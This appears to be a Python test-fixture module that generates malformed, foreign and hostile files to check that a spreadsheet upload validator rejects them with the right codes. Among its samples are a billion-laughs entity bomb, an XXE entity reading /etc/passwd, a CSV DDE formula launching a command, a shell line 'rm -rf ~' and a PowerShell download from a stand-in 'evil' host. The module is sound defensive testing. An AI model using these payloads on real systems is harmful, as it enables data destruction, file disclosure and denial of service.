"""Every kind of malformed, hostile or foreign file that the tests know: name → how it is made, and its code."""

from __future__ import annotations

import base64
import gzip
import io
import random
import re
import tarfile
from collections.abc import Callable, Iterator

from hostile import archives, contents, elsewhere, spellings
from hostile.archives import zipped
from hostile.zips import GOOD, good_parts, with_parts

Make = Callable[[], bytes]
SHEET, TABLE, BOOK = "xl/worksheets/sheet7.xml", "xl/tables/table7.xml", "xl/workbook.xml"
STRINGS, TYPES, RELS = "xl/sharedStrings.xml", "[Content_Types].xml", "xl/_rels/workbook.xml.rels"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(b'<!ENTITY lol%d "%s">' % (n + 1, (b"&lol%s;" % (b"%d" % n if n else b"")) * 10) for n in range(9))
    + b"]>"
)
XXE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'


def ole(*streams: str) -> bytes:
    """The beginning of an OLE file whose directory names these streams."""
    return OLE + bytes(1016) + b"".join(one.encode("utf-16-le") for one in streams)


def tarred() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        archive.add(GOOD, "bok.xlsx")
    return out.getvalue()


def without_declaration(xml: bytes) -> bytes:
    return xml[xml.index(b"?>") + 2 :] if xml.startswith(b"<?xml") else xml


def foreign() -> Iterator[tuple[str, str, Make]]:
    """Files of other programs, under the name of a workbook."""
    plain: dict[str, bytes] = {
        "csv": b"Tiltak;Sum\nT1;200000\n",
        "csv utf-16": "Tiltak;Sum\nT1;1\n".encode("utf-16"),
        "csv with a formula": b"=cmd|'/c calc'!A0;1\n",
        "tsv": b"Tiltak\tSum\nT1\t2\n",
        "json": b'{"a": [1, 2]}',
        "html table": b"<html><table><tr><td>1</td></tr></table></html>",
        "spreadsheet xml 2003": b'<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook/>',
        "flat ods": b'<?xml version="1.0"?><office:document/>',
        "mhtml": b"MIME-Version: 1.0\nContent-Type: multipart/related\n",
        "eml": b"From: a@b\nSubject: Behovsmelding\n\nVedlagt.\n",
        "rtf": b"{\\rtf1\\ansi}",
        "pdf": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n",
        "pdf after junk": b"\n\n%PDF-1.4",
        "postscript": b"%!PS-Adobe-3.0\n",
        "sylk": b"ID;PWXL;N;E\nC;Y1;X1;K1\n",
        "dif": b'TABLE\n0,1\n"EXCEL"\n',
        "dbf": b"\x03\x7e\x01\x01" + bytes(60),
        "lotus": b"\x00\x00\x02\x00\x06\x04\x06\x00" + bytes(40),
        "quattro": b"\x00\x00\x02\x00\x20\x51" + bytes(40),
        "biff2": b"\x09\x00\x04\x00\x02\x00\x10\x00" + bytes(40),
        "biff5": b"\x09\x08\x08\x00\x00\x05\x05\x00" + bytes(40),
        "xls": ole("Workbook"),
        "xls with macros": ole("Workbook", "_VBA_PROJECT_CUR"),
        "doc": ole("WordDocument"),
        "msg": ole("__properties_version1.0"),
        "ole of nothing": OLE,
        "png": b"\x89PNG\r\n\x1a\n" + bytes(30),
        "jpeg": b"\xff\xd8\xff\xe0" + bytes(30),
        "gif": b"GIF89a" + bytes(30),
        "heic": b"\x00\x00\x00\x18ftypheic" + bytes(30),
        "svg": b"<svg xmlns='http://www.w3.org/2000/svg'/>",
        "mp4": b"\x00\x00\x00\x20ftypisom" + bytes(30),
        "exe": b"MZ\x90\x00" + bytes(60),
        "elf": b"\x7fELF\x02\x01\x01" + bytes(60),
        "mach-o": b"\xcf\xfa\xed\xfe" + bytes(60),
        "class": b"\xca\xfe\xba\xbe\x00\x00\x00\x37",
        "wasm": b"\x00asm\x01\x00\x00\x00",
        "shell script": b"#!/bin/sh\nrm -rf ~\n",
        "powershell": b"Invoke-WebRequest http://evil\r\n",
        "windows link": b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(40),
        "internet shortcut": b"[InternetShortcut]\r\nURL=https://a\r\n",
        "google shortcut": b'{"url": "https://docs.google.com/open?id=1"}',
        "sqlite": b"SQLite format 3\x00" + bytes(84),
        "access": b"\x00\x01\x00\x00Standard ACE DB\x00",
        "parquet": b"PAR1" + bytes(20) + b"PAR1",
        "arrow": b"ARROW1\x00\x00" + bytes(20),
        "pickle": b"\x80\x04K\x01.",
        "lock file": b"\x05Ola N" + bytes(159),
        "7z": b"7z\xbc\xaf\x27\x1c" + bytes(30),
        "rar": b"Rar!\x1a\x07\x01\x00" + bytes(30),
        "bzip2": b"BZh91AY&SY" + bytes(30),
        "xz": b"\xfd7zXZ\x00" + bytes(30),
        "cab": b"MSCF" + bytes(30),
        "split zip": b"PK\x07\x08" + GOOD.read_bytes(),
        "empty zip": b"PK\x05\x06" + bytes(18),
        "self-extracting zip": b"MZ" + bytes(100) + GOOD.read_bytes(),
        "workbook after a byte order mark": b"\xef\xbb\xbf" + GOOD.read_bytes(),
        "workbook after a blank": b" " + GOOD.read_bytes(),
        "workbook as base64": base64.b64encode(GOOD.read_bytes()),
        "workbook with its line ends converted": GOOD.read_bytes().replace(b"\n", b"\r\n")[2:],
        "zeros": bytes(10_000),
        "ones": b"\xff" * 10_000,
        "noise": random.Random(1).randbytes(10_000),
        "blanks": b" " * 1_000,
        "one byte": b"P",
        "two bytes": b"PK",
        "three bytes": b"PK\x03",
    }
    for name, data in plain.items():
        yield f"foreign: {name}", "BX004", lambda data=data: data
    yield "foreign: gzip of a workbook", "BX004", lambda: gzip.compress(GOOD.read_bytes())
    yield "foreign: tar of a workbook", "BX004", tarred
    names = {
        "docx": "word/document.xml",
        "docm": "word/vbaProject.bin",
        "pptx": "ppt/presentation.xml",
        "xlsb": "xl/workbook.bin",
        "ods": "content.xml",
        "epub": "META-INF/container.xml",
        "jar": "META-INF/MANIFEST.MF",
        "apk": "AndroidManifest.xml",
        "numbers": "Index/Document.iwa",
        "visio": "visio/document.xml",
        "a workbook in a zip": "behovsmelding.xlsx",
        "a workbook in a folder of a zip": "mappe/xl/workbook.xml",
        "a text in a zip": "les.txt",
        "slashes turned": "xl\\workbook.xml",
        "a leading slash": "/xl/workbook.xml",
    }
    for name, inside in names.items():
        yield f"foreign: {name}", "BX004", lambda inside=inside: zipped(inside)
    yield "foreign: password", "BX005", lambda: ole("EncryptionInfo", "EncryptedPackage")
    yield "foreign: nothing", "BX003", lambda: b""


def in_every_part() -> Iterator[tuple[str, str, Make]]:
    """The same faults in every part of the example that is XML."""
    for one in good_parts():
        body = without_declaration(one.content)
        for name, head in (("billion laughs", LAUGHS), ("external entity", XXE)):
            yield f"{name}: {one.name}", "BX012", lambda one=one, xml=head + body: with_parts({one.name: xml})
        late = b"<!-- " + random.Random(4).randbytes(2_000).hex().encode() + b" -->" + XXE[21:] + body
        yield f"late doctype: {one.name}", "BX012", lambda one=one, late=late: with_parts({one.name: late})
        wide = one.content.decode().encode("utf-16")
        yield f"utf-16: {one.name}", "BX012", lambda one=one, wide=wide: with_parts({one.name: wide})
        seven = b'<?xml version="1.0" encoding="UTF-7"?>' + body
        yield f"utf-7: {one.name}", "BX012", lambda one=one, seven=seven: with_parts({one.name: seven})
        yield f"a zip in its place: {one.name}", "BX019", lambda one=one: with_parts({one.name: zipped("a")})


def broken_parts() -> Iterator[tuple[str, str, Make]]:
    """Parts that are gone, empty, cut, garbled or not what they should be; what comes of it depends on the part."""
    for one in good_parts():
        xml, middle = one.content, len(one.content) // 2
        yield f"gone: {one.name}", "", lambda one=one: with_parts({one.name: None})
        for name, data in {
            "empty": b"",
            "cut": xml[:middle],
            "garbled": xml[:middle] + random.Random(5).randbytes(200) + xml[middle + 200 :],
            "not utf-8": xml[:middle] + b"\xff\xfe\xc0\x80" + xml[middle:],
            "text": b"hei",
            "another root": b"<a><b/></a>",
            "deep": b"<a>" * 100_000,
            "its tags prefixed": xml.replace(b"</", b"</x:").replace(b"<", b"<x:").replace(b"<x:/x:", b"</x:"),
            "every number huge": _numbers(xml, b"99999999999999999999"),
            "every number negative": _numbers(xml, b"-1"),
            "twice": xml + without_declaration(xml),
            "undefined entity": xml.replace(b"</", b"&lol;</", 5),
            "unclosed": xml.replace(b">", b" ", 3),
        }.items():
            yield f"{name}: {one.name}", "", lambda one=one, data=data: with_parts({one.name: data})


def _numbers(xml: bytes, new: bytes) -> bytes:
    return re.sub(rb'(?<==")\d+(?=")', new, xml)


def coded() -> dict[str, tuple[str, Make]]:
    """Every kind that must be refused with one code; or ``read``, where it only looks as if it could do harm."""
    made = [*foreign(), *in_every_part()]
    for family in (
        *(archives.names, archives.headers, archives.ends, archives.nested),
        *(contents.macros, contents.embedded, contents.links, contents.formulas, contents.sizes),
        spellings.spellings,
        elsewhere.elsewhere,
    ):
        made += family()
    kinds = {name: (code, make) for name, code, make in made}
    assert len(kinds) == len(made)
    return kinds
